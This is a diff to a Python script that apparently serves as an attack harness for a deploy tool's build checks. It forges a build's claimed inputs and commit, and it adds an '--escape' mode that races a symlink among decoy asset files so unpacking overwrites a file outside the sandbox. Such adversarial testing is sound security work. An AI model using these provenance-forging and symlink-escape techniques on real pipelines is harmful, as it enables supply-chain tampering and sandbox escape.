@@ -1,5 +1,6 @@
 """The attack of a build command: writes a build of its own, and prints in the name of the deploy tool that it was built
-from other inputs. Arguments: the digest of these inputs, and a commit to name instead of the own one."""
+from other inputs. Arguments: the digest of these inputs, and a commit to name instead of the own one. Or `--escape` and
+a file outside of the sandbox, which the build overwrites through a link where the deployment unpacks it."""
 
 import ctypes
 import hashlib
@@ -13,6 +14,7 @@ import sys
 PIDFD_OPEN, PIDFD_GETFD = 434, 438
 
 inputs, *named = sys.argv[1:]
+outside = named.pop() if inputs == "--escape" else None
 
 
 def command_line(process):
@@ -48,13 +50,19 @@ def store(path, content):
     return {"path": path, "sha256": sha256, "bytes": len(content)}
 
 
+application = [{**store("manage.py", b"evil"), "type": "file"}]
+if outside is not None:
+    # The others give the link time to be written first.
+    others = [{**store(f"hat/assets/webpack/{number}.js", b"evil"), "type": "file"} for number in range(64)]
+    link = {**store("hat/assets/webpack/a.js", outside.encode()), "type": "link"}
+    application = [link, *others, {**store("hat/assets/webpack/a.js", b"evil"), "type": "executable"}]
 build = {
     "version": commit[:12],
     "commit": commit,
     "dirty": False,
     "platform": option("--platform"),
     "plugins": [name for name in option("--plugins").split(",") if name],
-    "application": [{**store("manage.py", b"evil"), "type": "file"}],
+    "application": application,
     "static": [store("app.js", b"evil")],
     "wheels": [],
 }
